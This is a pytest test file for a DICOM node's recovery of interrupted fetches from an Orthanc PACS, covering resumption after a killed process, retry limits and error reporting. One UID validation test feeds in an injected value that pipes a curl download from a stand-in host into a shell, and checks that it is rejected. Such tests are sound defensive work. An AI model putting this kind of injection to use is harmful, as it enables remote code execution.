"""A fetch by hand whose process is killed: the node resumes it, or says how to ask again; nothing is silently lost."""

from __future__ import annotations

import logging
import subprocess
import sys
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest
from pydicom import Dataset, dcmread
from sqlalchemy import func, select

from carina.config import DicomDestination, DicomSource, NodeSettings, Settings
from carina.database import INSTANCE
from carina.errors import DeliveryFailed
from carina.jobs.places import open_node
from carina.receive.fetch import found_series
from carina.receive.moves import FETCHING
from carina.receive.pull import Pulled
from carina.receive.store import InstanceStore
from carina.receive.unfinished import RESUMED_AT_MOST, FetchResumer, FetchWish, written_down
from carina.synth.phantom import chest_phantom
from carina.testing.dicom import write_ct_series
from carina.testing.pacs import orthanc, orthanc_program
from carina.testing.ports import free_port


@pytest.fixture(scope="module")
def there(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[int, FetchWish]]:
    """The port of an Orthanc, and a wish for a series of eight instances that it has."""
    if orthanc_program() is None:
        pytest.skip("Orthanc is not installed; on Debian: apt-get install orthanc")
    with orthanc(modalities={"carina": ("CARINA", "127.0.0.1", 1)}) as pacs:
        files = write_ct_series(chest_phantom(shape=(8, 64, 64), lesions=0).volume, tmp_path_factory.mktemp("ct"))
        for file in files:
            request = urllib.request.Request(f"{pacs.http_url}/instances", file.read_bytes(), method="POST")
            urllib.request.urlopen(request, timeout=30).close()
        header = dcmread(files[0], stop_before_pixels=True)
        uids = {"study_uid": str(header.StudyInstanceUID), "series_uid": str(header.SeriesInstanceUID)}
        yield pacs.dicom_port, FetchWish(peer="pacs", source="pulled", instances=8, is_moved=False, **uids)


WISH = FetchWish(peer="pacs", source="pulled", study_uid="1.2", series_uid="1.2.3", instances=8, is_moved=True)


def store_at(folder: Path, port: int) -> InstanceStore:
    peer = DicomDestination(host="127.0.0.1", port=port, ae_title="ORTHANC", timeout_s=60)
    settings = Settings(
        node=NodeSettings(folder=str(folder), free_gb=0),
        sources={"pulled": DicomSource(ae_title="CARINA")},
        destinations={"pacs": peer},
    )
    return InstanceStore(settings, open_node(settings))


def held(store: InstanceStore) -> int:
    with store.engine.connect() as connection:
        return int(connection.execute(select(func.count()).select_from(INSTANCE)).scalar_one())


def notes(folder: Path) -> list[str]:
    return sorted(path.suffix for path in (folder / FETCHING).iterdir())


def killed(folder: Path, *wishes: FetchWish, ended: str = "") -> None:
    """A process that wrote down what it wants, perhaps ended one of them, and was killed."""
    code = (
        "import os, sys, msgspec\nfrom pathlib import Path\n"
        "from carina.receive.unfinished import FetchWish, written_down\n"
        "with written_down(Path(sys.argv[1]), msgspec.json.decode(sys.argv[2], type=list[FetchWish])) as ended:\n"
        "    ended(sys.argv[3]) if sys.argv[3] else None\n    os.kill(os.getpid(), 9)\n"
    )
    words = [sys.executable, "-c", code, str(folder), msgspec.json.encode(wishes).decode(), ended]
    assert subprocess.run(words, check=False, timeout=120).returncode == -9
    assert notes(folder) == [".json"]


def test_what_was_killed_is_fetched_and_nothing_is_left(
    there: tuple[int, FetchWish], tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    port, wish = there
    store = store_at(tmp_path / "node", port)
    killed(store.folder, WISH, wish, ended=WISH.series_uid)  # the first had ended: nobody asks for it
    with caplog.at_level(logging.INFO):
        assert FetchResumer(store).round() == 1
    assert (held(store), notes(store.folder)) == (8, [])
    assert f"a fetch was broken off and is resumed: series {wish.series_uid}: 8 of 8 instances" in caplog.text
    assert FetchResumer(store).round() == 0


def test_nobody_else_fetches_what_somebody_is_at(there: tuple[int, FetchWish], tmp_path: Path) -> None:
    port, wish = there
    store = store_at(tmp_path / "node", port)
    with written_down(store.folder, [wish]):
        assert FetchResumer(store).round() == 0
        assert notes(store.folder) == [".json"]
    assert (held(store), notes(store.folder)) == (0, [])


def test_one_that_fails_tells_its_caller_and_leaves_nothing(tmp_path: Path) -> None:
    with pytest.raises(DeliveryFailed, match="gone"), written_down(tmp_path, [WISH]):
        raise DeliveryFailed("x", "gone")
    with pytest.raises(KeyboardInterrupt), written_down(tmp_path, [WISH]):
        raise KeyboardInterrupt
    assert notes(tmp_path) == []


def test_a_peer_that_is_away_is_asked_so_often_whatever_restarts_and_then_it_is_said(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    store = store_at(tmp_path / "node", free_port())
    wish = msgspec.structs.replace(WISH, is_moved=False)
    killed(store.folder, wish)
    now = [0.0]
    resumer = FetchResumer(store, lambda: now[0])
    assert [resumer.round(), resumer.round()] == [1, 0], "not again at once"
    now[0] = 61.0
    assert [resumer.round(), resumer.round()] == [1, 0]
    for _ in range(RESUMED_AT_MOST - 2):
        assert FetchResumer(store).round() == 1  # of a node that was started again
    assert notes(store.folder) == [".json"]
    assert FetchResumer(store).round() == 1
    assert notes(store.folder) == []
    again = "ask again: carina fetch pacs --study 1.2 --series 1.2.3 --source pulled"
    assert caplog.text.count(again) == 1 and caplog.text.count("is tried again later: pacs") == RESUMED_AT_MOST


@pytest.mark.parametrize(
    ("wish", "words"),
    [
        (msgspec.structs.replace(WISH, peer="gone"), "destinations.gone: no DICOM node is called so"),
        (msgspec.structs.replace(WISH, source="gone"), "sources.gone: not in the settings any more"),
    ],
)
def test_what_the_settings_no_longer_have_is_said_at_once(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, wish: FetchWish, words: str
) -> None:
    store = store_at(tmp_path / "node", free_port())
    killed(store.folder, wish)
    assert FetchResumer(store).round() == 1
    assert notes(store.folder) == []
    assert words in caplog.text and f"ask again: {wish.command}" in caplog.text


@pytest.mark.parametrize("text", ["", "[{", "{}", "\0\xff"])
def test_a_note_that_can_not_be_read_is_said_and_holds_up_no_other(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, text: str
) -> None:
    store = store_at(tmp_path / "node", free_port())
    (store.folder / FETCHING).mkdir()
    (store.folder / FETCHING / "1.json").write_text(text, encoding="latin-1")
    assert FetchResumer(store).round() == 1
    assert notes(store.folder) == [] and "can't be read: ask for it again" in caplog.text


def test_a_record_that_the_node_may_not_open_is_said_once_and_holds_up_no_other(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    store = store_at(tmp_path / "node", free_port())
    killed(store.folder, msgspec.structs.replace(WISH, peer="gone"))
    (store.folder / FETCHING / "0.json").mkdir()
    resumer = FetchResumer(store)
    assert [resumer.round(), resumer.round()] == [1, 0]
    assert caplog.text.count("no record of a fetch that the node may use") == 1
    assert notes(store.folder) == [".json"], "the one that can't be opened"


def test_a_part_of_a_series_is_no_end_of_its_fetch(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    words = "series 1.2.3: 3 of 8 instances; refused: disk full"
    monkeypatch.setattr("carina.receive.unfinished.pull", lambda *_, **__: iter([Pulled(words, is_whole=False)]))
    store = store_at(tmp_path / "node", free_port())
    killed(store.folder, WISH)
    for _ in range(RESUMED_AT_MOST + 1):
        assert FetchResumer(store).round() == 1
    assert caplog.text.count(words) == RESUMED_AT_MOST and f"ask again: {WISH.command}" in caplog.text
    assert notes(store.folder) == []


@pytest.mark.parametrize("uid", ["1.2;curl evil|sh #", "1.2\n9", ""])
def test_what_a_pacs_calls_a_uid_and_is_none_is_not_found(uid: str) -> None:
    study, series = Dataset(), Dataset()
    study.StudyInstanceUID, series.SeriesInstanceUID, series.Modality = "1.2", "1.2.3", "CT"
    assert found_series(study, series) is not None
    for dataset, keyword in ((study, "StudyInstanceUID"), (series, "SeriesInstanceUID")):
        before = getattr(dataset, keyword)
        setattr(dataset, keyword, uid)
        assert found_series(study, series) is None
        setattr(dataset, keyword, before)
